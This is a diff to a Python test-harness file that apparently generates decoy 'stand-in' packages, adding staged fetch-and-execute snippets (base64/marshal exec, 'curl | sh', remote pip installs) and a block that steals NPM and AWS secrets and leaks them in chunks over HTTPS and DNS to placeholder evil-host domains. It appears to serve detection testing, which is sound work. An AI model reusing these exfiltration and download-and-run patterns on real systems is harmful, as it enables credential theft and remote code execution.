@@ -1,6 +1,7 @@
-"""Clients that packages bring or find, each with bait to send: sources for a stand-in's module.
+"""What stand-ins say to the world, by real clients: sources for their modules.
 
-Each is a function that returns what it got; the module prints them all as one line of JSON.
+Each client, or second stage, is a function that returns what it got; a module prints what all of
+its own got as one line of JSON. All is harmless: bait, and what the decoy internet serves.
 """
 
 from collections.abc import Mapping
@@ -124,7 +125,7 @@ FOREIGN: dict[str, str] = {
     import paramiko
     transport = paramiko.Transport(("ssh.evil-host.xyz", 22))
     try:
-        transport.start_client(timeout=5)
+        transport.start_client(timeout=1)
     except (EOFError, paramiko.SSHException):
         pass
     finally:
@@ -135,7 +136,92 @@ FOREIGN: dict[str, str] = {
 FOREIGN_REQUIRES = ("httpx", "aiohttp", "websockets", "dnspython", "paramiko")
 
 
-def source_of(clients: Mapping[str, str]) -> str:
+# How what is fetched comes to be run or kept. A name for each, which its URL has.
+STAGES: dict[str, str] = {
+    "coded": """
+    import base64, zlib
+    exec(zlib.decompress(base64.b64decode(base64.b64encode(zlib.compress(get("coded", "two.py"))))))
+""",
+    "paste": """
+    import base64
+    exec(base64.b64decode(get("paste", "payload.txt")))
+""",
+    "marshalled": """
+    import marshal
+    exec(marshal.loads(marshal.dumps(compile(get("marshalled", "two.py"), "x", "exec"))))
+""",
+    "module": """
+    import importlib.util
+    with open("/tmp/fetched.py", "wb") as file:
+        file.write(get("module", "two.py"))
+    spec = importlib.util.spec_from_file_location("fetched", "/tmp/fetched.py")
+    spec.loader.exec_module(importlib.util.module_from_spec(spec))
+""",
+    "dashc": """
+    import sys
+    return subprocess.run([sys.executable, "-c", get("dashc", "two.py").decode()]).returncode
+""",
+    "dollar": """
+    return os.system('sh -c "$(curl -fsSL https://dollar.evil-host.xyz/i.sh)"')
+""",
+    "archive": """
+    import shutil
+    with open("/tmp/tool.zip", "wb") as file:
+        file.write(get("archive", "tool-linux-x64.zip"))
+    shutil.unpack_archive("/tmp/tool.zip", "/tmp/unpacked")
+    return subprocess.run(["sh", "/tmp/unpacked/tool"]).returncode
+""",
+    "built": """
+    return pip("https://built.evil-host.xyz/stage-1.0.tar.gz")
+""",
+    "indexed": """
+    import sys
+    code = pip("hidden-evil-stage")
+    sys.path.insert(0, "/tmp/installed")
+    import hidden_evil_stage
+    return code
+""",
+}
+FETCHING = """
+import sys, urllib.request
+def get(name, path):
+    url = f"https://{name}.evil-host.xyz/{path}"
+    with urllib.request.urlopen(url, timeout=10) as answer:
+        return answer.read()
+def pip(what):
+    words = [sys.executable, "-m", "pip", "install", "-q", "--target", "/tmp/installed", what]
+    return subprocess.run(words, capture_output=True).returncode
+"""
+# Data that a library keeps, and never runs.
+KEEPING = """
+import os, urllib.request
+os.makedirs(os.path.expanduser("~/.cache/list"), exist_ok=True)
+with urllib.request.urlopen("https://data.fair-host.com/list.json") as answer:
+    with open(os.path.expanduser("~/.cache/list/list.json"), "wb") as file:
+        file.write(answer.read())
+"""
+# What can't be seen in one message, or can't be read at all.
+HIDING = """
+import base64, json, os, socket, urllib.request, zlib
+def post(host, body):
+    urllib.request.urlopen(f"https://{host}.evil-host.xyz/", body, timeout=10).close()
+token, key = os.environ["NPM_TOKEN"], os.environ["AWS_SECRET_ACCESS_KEY"]
+for at in range(0, len(token), 8):
+    part = token[at:at + 8]
+    urllib.request.urlopen(f"https://slow.evil-host.xyz/t?n={at}&d={part}", timeout=10).close()
+for at in range(0, len(key), 8):
+    socket.gethostbyname(f"{key[at:at + 8].encode().hex()}.{at}.drain.evil-zone.xyz")
+post("names", base64.b64encode(json.dumps(sorted(os.environ)).encode()))
+ordinary = {name: value for name, value in os.environ.items() if "_" not in name}
+post("whole", zlib.compress(json.dumps(ordinary).encode()))
+post("turned", bytes(byte ^ 0x2A for byte in key.encode()))
+with open(os.path.expanduser("~/.aws/credentials")) as file:
+    file.read()
+post("dark", os.urandom(600))
+"""
+
+
+def source_of(clients: Mapping[str, str], prelude: str = "") -> str:
     """A module that lets each client do its work, and prints what each got."""
     works = "".join(f"@client\ndef {name}():{work}" for name, work in clients.items())
-    return f"{PRELUDE}{works}print(json.dumps(GOT))\n"
+    return f"{PRELUDE}{prelude}{works}print(json.dumps(GOT))\n"
